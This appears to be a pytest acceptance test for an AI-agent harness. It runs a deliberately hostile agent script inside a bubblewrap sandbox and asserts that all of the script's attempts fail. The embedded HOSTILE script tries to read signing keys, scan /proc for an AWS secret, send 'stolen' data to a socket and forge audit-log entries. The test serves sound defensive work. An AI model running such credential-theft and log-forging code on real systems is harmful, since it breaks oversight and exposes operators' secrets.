"""Acceptance: a hostile agent and a hostile gate, run end to end with real processes, real
git and real bubblewrap (issue 10, deliverables 1-3).

The agent and the gate try to read every key file (by absolute path, and by walking the whole
file system they can see), write into the state folder and its stores, read a secret planted
in the runtime's environment, reach a TCP listener the test runs on 127.0.0.1 and (the gate)
edit or commit to the worktree. Every attempt must fail, the listener must see no connection,
the attempts must show in the evidence (the agent's report is a merged, lineage-recorded
artifact; the gate passes only when all of its attempts failed), and the exported bundle must
verify. On the old layout (keys in ``<repo>/.harness/keys``, no sandbox, the runtime's whole
environment) the agent reads both keys and the secret, and appends to the audit store.
"""

from __future__ import annotations

import hashlib
import json
import os
import socket
import subprocess
import sys
import textwrap
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from harness.orchestrate.demo import make_repo
from harness.orchestrate.git import commit_all
from harness.orchestrate.sandbox import probe
from harness.verify.canonical import parse_canonical

pytestmark = pytest.mark.skipif(
    not probe().available, reason=f"bubblewrap cannot sandbox here: {probe().reason}"
)

SECRET = "wJalrXUtnFEMI-K7MDENG-bPxRfiCYEXAMPLEKEY-planted"

HOSTILE = r"""
import json, os, socket, subprocess, sys

role = sys.argv[1]
info = json.loads(sys.stdin.read().split("HOSTILE:", 1)[1] if role == "agent" else sys.argv[2])
attempts = []


def attempt(what, fn):
    try:
        detail = fn()
        attempts.append({"what": what, "ok": True, "detail": str(detail)[:200]})
    except Exception as exc:  # every failure is the expected outcome
        attempts.append({"what": what, "ok": False, "detail": f"{type(exc).__name__}: {exc}"})


def read(path):
    with open(path, "rb") as fh:
        return fh.read(64)


for path in info["key_files"]:
    attempt(f"read {path}", lambda p=path: read(p))
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:  # other processes' roots
        attempt(f"read /proc/{pid}/root{path}", lambda p=f"/proc/{pid}/root{path}": read(p))
attempt("read through the git folder",
        lambda: read(os.path.join(info["git_dir"], "..", ".harness", "runs")))

NAMES = {"signing.key", "hmac.key", "signing.pub", "signing.vkey", "audit.jsonl",
         "lineage.jsonl", "replay.jsonl", "control.jsonl"}
found = []
for root, dirs, files in os.walk("/"):
    if root in ("/proc", "/sys", "/dev"):
        dirs[:] = []
        continue
    for name in files:
        if name in NAMES:  # the harness's key files and stores, wherever they are
            found.append(os.path.join(root, name))
for path in found:
    attempt(f"read found {path}", lambda p=path: read(p))
attempts.append({"what": "walk /", "ok": False, "detail": f"{len(found)} candidate files"})


def append(path):
    fd = os.open(path, os.O_WRONLY | os.O_APPEND)
    try:
        return os.write(fd, b'{"forged":true}\n')
    finally:
        os.close(fd)


def create(path):
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
    os.close(fd)
    return path


for path in info["stores"]:
    attempt(f"append to {path}", lambda p=path: append(p))
attempt("create in the state folder", lambda: create(os.path.join(info["state"], "evil.txt")))
attempt("create a run in the state folder",
        lambda: create(os.path.join(info["state"], "runs", "evil.jsonl")))
attempt("env AWS_SECRET_ACCESS_KEY", lambda: os.environ["AWS_SECRET_ACCESS_KEY"])


def environ_scan():
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                data = read_all(f"/proc/{pid}/environ")
            except OSError:
                continue
            if b"AWS_SECRET_ACCESS_KEY=" in data:
                return pid
    raise LookupError("no process environment holds it")


def read_all(path):
    with open(path, "rb") as fh:
        return fh.read()


attempt("AWS_SECRET_ACCESS_KEY in /proc/*/environ", environ_scan)


def connect(host, port):
    with socket.create_connection((host, port), timeout=3) as conn:
        conn.sendall(b"stolen")
        return conn.getpeername()


attempt("connect 127.0.0.1 listener", lambda: connect("127.0.0.1", info["port"]))
attempt("connect localhost listener", lambda: connect("localhost", info["port"]))
attempt("connect 1.1.1.1:53", lambda: connect("1.1.1.1", 53))
attempt("write a git hook", lambda: create(os.path.join(info["git_dir"], "hooks", "post-merge")))

if role == "gate":
    attempt("edit the worktree", lambda: open("calc.py", "a").write("# gate was here\n"))
    attempt("create in the worktree", lambda: create("gate.txt"))
    env = {"GIT_AUTHOR_NAME": "g", "GIT_AUTHOR_EMAIL": "g@x", "GIT_COMMITTER_NAME": "g",
           "GIT_COMMITTER_EMAIL": "g@x", "PATH": "/usr/bin:/bin", "HOME": os.environ["HOME"]}

    def commit():
        done = subprocess.run(["git", "commit", "--allow-empty", "-qm", "gate commit"],
                              env=env, capture_output=True, text=True)
        if done.returncode != 0:
            raise OSError(done.stderr.strip()[:150])
        return "committed"

    attempt("git commit in the worktree", commit)
    print(json.dumps(attempts))
    sys.exit(1 if any(a["ok"] for a in attempts) else 0)

with open("attempts.json", "w") as fh:
    json.dump(attempts, fh, indent=1, sort_keys=True)
print(json.dumps({"attempts": len(attempts), "succeeded": sum(a["ok"] for a in attempts)}))
"""


class Listener:
    """A TCP listener on 127.0.0.1 that counts the connections it accepts."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.accepted: list[Any] = []
        self.stop = threading.Event()
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while not self.stop.is_set():
            try:
                conn, peer = self.sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.accepted.append(peer)
            conn.close()

    def close(self) -> None:
        self.stop.set()
        self.thread.join(5)
        self.sock.close()


def _env(tmp: Path) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("XDG_", "AWS_", "FAKE_"))}
    env["XDG_CONFIG_HOME"] = str(tmp / "config")
    env["XDG_CACHE_HOME"] = str(tmp / "cache")
    env["AWS_SECRET_ACCESS_KEY"] = SECRET
    return env


def _harness(env: dict[str, str], cwd: Path, *args: str | Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "harness.cli", *map(str, args)],
        cwd=cwd, env=env, capture_output=True, text=True, check=False, timeout=300,
    )  # fmt: skip


def _records(state: Path, run: str, store: str) -> list[dict[str, Any]]:
    path = state / "runs" / run / f"{store}.jsonl"
    return [parse_canonical(line) for line in path.read_bytes().splitlines()]


def _toml(value: Any) -> str:
    return json.dumps(value)  # a JSON string or array of strings is a valid TOML value


def test_hostile_agent_and_gate_reach_nothing(tmp_path: Path) -> None:
    repo = tmp_path / "repo"
    make_repo(repo)
    (repo / "hostile.py").write_text(HOSTILE)
    commit_all(repo, "hostile helper", date="2026-01-01T00:00:00+00:00")
    env = _env(tmp_path)
    init = _harness(env, repo, "init")
    assert init.returncode == 0, init.stderr
    from harness.receipts.keys import default_keys_dir

    keys = default_keys_dir(repo, env)
    key_bytes = {p.name: p.read_bytes() for p in keys.iterdir()}
    state = repo / ".harness"
    run = "hostile"
    listener = Listener()
    try:
        info = {
            "key_files": [
                *sorted(str(p) for p in keys.iterdir()),
                str(state / "keys" / "signing.key"),
                str(state / "keys" / "hmac.key"),
            ],
            "state": str(state),
            "stores": [
                str(state / "runs" / run / f"{s}.jsonl")
                for s in ("audit", "lineage", "replay", "control")
            ],
            "port": listener.port,
            "git_dir": str(repo / ".git"),
        }
        gate = [sys.executable, "hostile.py", "gate", json.dumps(info)]
        plan = textwrap.dedent(f"""
            [plan]
            name = "hostile"
            [adapter.hostile]
            command = [{_toml(sys.executable)}, "hostile.py", "agent"]
            [[task]]
            id = "t1"
            role = "coder"
            adapter = "hostile"
            prompt = {_toml("HOSTILE:" + json.dumps(info))}
            scope = ["attempts.json"]
            timeout_s = 120
            [[task.gates]]
            name = "hostile-gate"
            command = [{", ".join(_toml(a) for a in gate)}]
            timeout_s = 120
        """)
        (tmp_path / "plan.toml").write_text(plan)
        ran = _harness(env, repo, "run", tmp_path / "plan.toml", "--run", run)
        assert ran.returncode == 0, ran.stdout + ran.stderr
    finally:
        listener.close()

    # the listener saw nothing; the gate passed, so every one of its attempts failed
    assert listener.accepted == []
    audit = _records(state, run, "audit")
    gates = [r["body"] for r in audit if r["kind"] == "gate.result"]
    assert [(g["gate"], g["passed"]) for g in gates] == [("hostile-gate", True)]
    assert "t1" in ran.stdout and "done" in ran.stdout, ran.stdout

    # the agent's own report is merged and recorded in the lineage
    report_bytes = (repo / "attempts.json").read_bytes()
    report = json.loads(report_bytes)
    lineage = _records(state, run, "lineage")
    (write,) = [r["body"] for r in lineage if r["body"]["path"] == "attempts.json"]
    assert write["sha256"] == hashlib.sha256(report_bytes).hexdigest()
    whats = [a["what"] for a in report]
    for path in info["key_files"]:
        assert f"read {path}" in whats
    for store in info["stores"]:
        assert f"append to {store}" in whats
    for needed in (
        "env AWS_SECRET_ACCESS_KEY",
        "connect 127.0.0.1 listener",
        "walk /",
        "create in the state folder",
        "AWS_SECRET_ACCESS_KEY in /proc/*/environ",
    ):
        assert needed in whats  # fmt: skip
    succeeded = [a for a in report if a["ok"]]
    assert succeeded == [], succeeded
    assert not any(a["what"].startswith("read found") and ".harness" in a["what"] for a in report)

    # nothing reached the host: keys intact, no file planted, stores hold only runtime records
    assert {p.name: p.read_bytes() for p in keys.iterdir()} == key_bytes
    assert not (state / "evil.txt").exists() and not (state / "runs" / "evil.jsonl").exists()
    assert not (repo / ".git" / "hooks" / "post-merge").exists()
    assert not (repo / "gate.txt").exists()
    assert "# gate was here" not in (repo / "calc.py").read_text()
    for store in ("audit", "lineage", "replay", "control"):
        path = state / "runs" / run / f"{store}.jsonl"
        if path.exists():
            data = path.read_bytes()
            assert b"forged" not in data and SECRET.encode() not in data

    # the spawn record carries the effective profile and the env names, never a value
    (spawn,) = [r["body"] for r in audit if r["kind"] == "agent.spawn"]
    sandbox = spawn["sandbox"]
    assert (sandbox["kind"], sandbox["network"], sandbox["private_mounts"], sandbox["opt_out"]) == (
        "bwrap", False, False, False,
    )  # fmt: skip
    assert "net" in sandbox["namespaces"] and "pid" in sandbox["namespaces"]
    assert spawn["env"] == sandbox["env"] and "AWS_SECRET_ACCESS_KEY" not in spawn["env"]
    assert set(spawn["env"]) <= {
        "HOME",
        "LANG",
        "LC_ALL",
        "LC_CTYPE",
        "PATH",
        "TERM",
        "TMPDIR",
        "TZ",
    }
    worktree_mounts = [m for m in sandbox["mounts"] if m["purpose"] == "worktree"]
    assert [m["how"] for m in worktree_mounts] == ["bind"]
    assert not str(spawn["worktree"]).startswith(str(state))  # worktrees live outside .harness
    (start,) = [r["body"] for r in audit if r["kind"] == "run.start"]
    assert start["sandbox"]["kind"] == "bwrap" and start["sandbox"]["gate"]["role"] == "gate"
    gate_worktree = [m for m in start["sandbox"]["gate"]["mounts"] if m["purpose"] == "worktree"]
    assert [m["how"] for m in gate_worktree] == ["ro-bind"]

    # and the exported bundle verifies, pinned to the operator's key
    bundle = tmp_path / "bundle.tar"
    exported = _harness(env, repo, "export", bundle)
    assert exported.returncode == 0, exported.stderr
    key_id = exported.stdout.rsplit("signer key id ", 1)[1].strip()
    verified = subprocess.run(
        [sys.executable, "-m", "harness.verify.cli", str(bundle), "--trusted-key", key_id],
        capture_output=True, text=True, check=False, cwd=tmp_path, env=env,
    )  # fmt: skip
    assert verified.returncode == 0, verified.stdout + verified.stderr


SLEEPER = r"""
import sys, time, pathlib
prompt = sys.stdin.read()
pathlib.Path("got.txt").write_text(prompt)
time.sleep(4)
"""


def _cmdlines() -> dict[int, bytes]:
    out = {}
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as fh:
                    out[int(entry)] = fh.read()
            except OSError:
                continue
    return out


def test_running_agent_cmdline_holds_no_prompt(tmp_path: Path) -> None:
    """``/proc/PID/cmdline`` of every process of a running agent (bubblewrap and the program
    inside) holds no prompt text; the agent still gets the prompt (on stdin)."""
    repo = tmp_path / "repo"
    make_repo(repo)
    env = _env(tmp_path)
    assert _harness(env, repo, "init").returncode == 0
    marker = "PROMPT-MARKER-" + hashlib.sha256(str(tmp_path).encode()).hexdigest()[:16]
    token = "--argv-token-" + marker[-8:]
    plan = textwrap.dedent(f"""
        [plan]
        name = "sleepy"
        [adapter.sleeper]
        command = [{_toml(sys.executable)}, "-c", {_toml(SLEEPER)}, {_toml(token)}]
        [[task]]
        id = "t1"
        role = "coder"
        adapter = "sleeper"
        prompt = "{marker} write it down"
        scope = ["got.txt"]
        gates = [{{ name = "ok", command = [{_toml(sys.executable)}, "-c", "pass"] }}]
    """)
    (tmp_path / "plan.toml").write_text(plan)
    proc = subprocess.Popen(
        [sys.executable, "-m", "harness.cli", "run", str(tmp_path / "plan.toml"), "--run", "s1"],
        cwd=repo, env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    seen_agent = 0
    try:
        deadline = time.monotonic() + 60
        while proc.poll() is None and time.monotonic() < deadline:
            for pid, cmdline in _cmdlines().items():
                if pid == os.getpid():
                    continue
                assert marker.encode() not in cmdline, (pid, cmdline)
                if token.encode() in cmdline:
                    seen_agent += 1
            time.sleep(0.05)
        _, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.wait()
    assert proc.returncode == 0, err.decode()
    assert seen_agent >= 3  # the scan did see the running agent's processes, repeatedly
    assert (repo / "got.txt").read_text().startswith(f"[t1] {marker}")  # it got the prompt
